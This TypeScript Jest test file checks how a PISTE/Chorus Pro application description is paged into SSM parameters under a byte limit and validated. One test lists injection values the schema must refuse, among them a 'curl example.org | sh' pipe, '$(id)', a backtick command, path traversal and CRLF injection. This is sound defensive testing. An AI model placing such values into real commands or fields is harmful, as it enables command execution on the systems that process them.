import { describe, expect, it } from "@jest/globals";
import * as v from "valibot";
import { checkApplication } from "../../piste/application";
import {
  describe as describeApplication,
  MAXIMUM_PARAMETER_VALUE_IN_BYTES,
  type DescribedAccount,
  type DescriptionParameter,
} from "../../piste/description";
import { accountPageSchema, descriptionSchema } from "../../piste/description-schemas";

const APPLICATION = "/piste/qualif/chorus-pro";

const account = (changes: Partial<DescribedAccount> = {}): DescribedAccount => ({
  name: "default",
  secret: "piste/qualif/chorus-pro/technical-account/default",
  structure: { identifier: "73282932000074", identifierType: "SIRET" },
  passwordLifetimeInDays: 424,
  ...changes,
});

const bytesOf = (accounts: readonly DescribedAccount[]): number => Buffer.byteLength(JSON.stringify(accounts));

/** Accounts whose page has exactly this size; the first one's `usageType` fills it. */
function accountsOfBytes(bytes: number, count = 1): DescribedAccount[] {
  const accounts = Array.from({ length: count }, () => account({ usageType: "" }));
  return [account({ usageType: "x".repeat(bytes - bytesOf(accounts)) }), ...accounts.slice(1)];
}

const describeWith = (
  accounts: readonly DescribedAccount[] = [],
  pisteApplicationName?: string,
): DescriptionParameter[] =>
  describeApplication(
    checkApplication({ environment: "qualif", name: "chorus-pro", pisteApplicationName }),
    {
      clientSecret: "piste/qualif/chorus-pro/client",
      tokenSecret: "piste/qualif/chorus-pro/token",
      function: "piste-qualif-chorus-pro-token-refresh",
      schedule: { group: "default", name: "piste-qualif-chorus-pro" },
      alarms: ["an-alarm"],
    },
    accounts,
  );

const pagesOf = (parameters: readonly DescriptionParameter[]): DescribedAccount[][] =>
  parameters.slice(1).map(({ value }) => v.parse(accountPageSchema, JSON.parse(value)));

describe("the description of an application", () => {
  it("is one parameter without accounts, and reads back", () => {
    const [application, ...pages] = describeWith([], "APP_SANDBOX_si@example.org");
    expect(pages).toEqual([]);
    expect(application?.name).toBe(APPLICATION);
    expect(v.parse(descriptionSchema, JSON.parse(application?.value ?? ""))).toEqual({
      environment: "qualif",
      application: "chorus-pro",
      pisteApplicationName: "APP_SANDBOX_si@example.org",
      scope: "openid",
      apis: ["chorus-pro-factures", "chorus-pro-structures", "chorus-pro-utilisateurs", "chorus-pro-transverses"],
      clientSecret: "piste/qualif/chorus-pro/client",
      tokenSecret: "piste/qualif/chorus-pro/token",
      function: "piste-qualif-chorus-pro-token-refresh",
      schedule: { group: "default", name: "piste-qualif-chorus-pro" },
      alarms: ["an-alarm"],
      accountPages: 0,
    });
  });

  it("has its accounts in pages numbered from 1", () => {
    const accounts = Array.from({ length: 100 }, (_, index) => account({ name: `account-${index}` }));
    const parameters = describeWith(accounts);
    const pages = pagesOf(parameters);
    expect(pages.length).toBeGreaterThan(1);
    expect(parameters.map(({ name }) => name)).toEqual([
      APPLICATION,
      ...pages.map((_, index) => `${APPLICATION}/accounts/${index + 1}`),
    ]);
    expect(v.parse(descriptionSchema, JSON.parse(parameters[0]?.value ?? "")).accountPages).toBe(pages.length);
    expect(pages.flat()).toEqual(accounts);
  });

  it.each<Readonly<Record<string, unknown>>>([
    { application: "chorus-pro; curl example.org | sh" },
    { application: "../other" },
    { clientSecret: "$(id)" },
    { tokenSecret: "a b" },
    { function: "f`id`" },
    { alarms: ["an alarm\u001b[2J"] },
    { apis: ["chorus-pro-factures\n"] },
    { scope: "openid\r\nX: 1" },
    { accountPages: 10_001 },
    { accountPages: 0.5 },
    // 1e999 in JSON.
    { accountPages: Infinity },
    { accountPages: -1 },
  ])("is refused with text that a command cannot hold as one word, or an impossible number of pages: %j", (changes) => {
    const description = JSON.parse(describeWith()[0]?.value ?? "") as object;
    expect(v.is(descriptionSchema, description)).toBe(true);
    expect(v.is(descriptionSchema, { ...description, ...changes })).toBe(false);
  });

  it.each<Readonly<Record<string, unknown>>>([
    { name: "default --local" },
    { secret: "a;b" },
    { passwordLifetimeInDays: 0 },
    { passwordLifetimeInDays: 424.5 },
    { passwordLifetimeInDays: 1e300 },
  ])("cannot have an account with %j", (changes) => {
    expect(v.is(accountPageSchema, [account()])).toBe(true);
    expect(v.is(accountPageSchema, [{ ...account(), ...changes }])).toBe(false);
  });

  it("fills each page", () => {
    const accounts = Array.from({ length: 100 }, (_, index) => account({ name: `account-${index}` }));
    const pages = pagesOf(describeWith(accounts));
    pages.forEach((page, index) => {
      expect(bytesOf(page)).toBeLessThanOrEqual(MAXIMUM_PARAMETER_VALUE_IN_BYTES);
      const next = pages[index + 1]?.[0];
      if (next !== undefined) expect(bytesOf([...page, next])).toBeGreaterThan(MAXIMUM_PARAMETER_VALUE_IN_BYTES);
    });
  });

  it("splits a page at 4,097 bytes", () => {
    expect(pagesOf(describeWith(accountsOfBytes(4096, 2)))).toHaveLength(1);
    expect(pagesOf(describeWith(accountsOfBytes(4097, 2)))).toHaveLength(2);
  });

  it("counts bytes, not characters", () => {
    const accented = (): DescribedAccount => account({ usageType: "é".repeat(1000) });
    expect(JSON.stringify([accented(), accented()]).length).toBeLessThan(MAXIMUM_PARAMETER_VALUE_IN_BYTES);
    expect(pagesOf(describeWith([accented(), accented()]))).toHaveLength(2);
  });

  it("refuses a single account over the limit, and names the page, the limit and the properties to shorten", () => {
    expect(() => describeWith(accountsOfBytes(4096))).not.toThrow();
    expect(() => describeWith(accountsOfBytes(4097))).toThrow(
      new Error(
        `the description ${APPLICATION}/accounts/1 must be at most 4096 bytes, an SSM parameter's limit, got 4097; ` +
          "shorten pisteApplicationName, apis, usageType or technicalContact",
      ),
    );
  });

  it("refuses an application whose own description exceeds the limit in bytes", () => {
    expect(() => describeWith([], `APP_SANDBOX_@${"é".repeat(2000)}`)).toThrow(
      /^the description \/piste\/qualif\/chorus-pro must be at most 4096 bytes/,
    );
  });
});
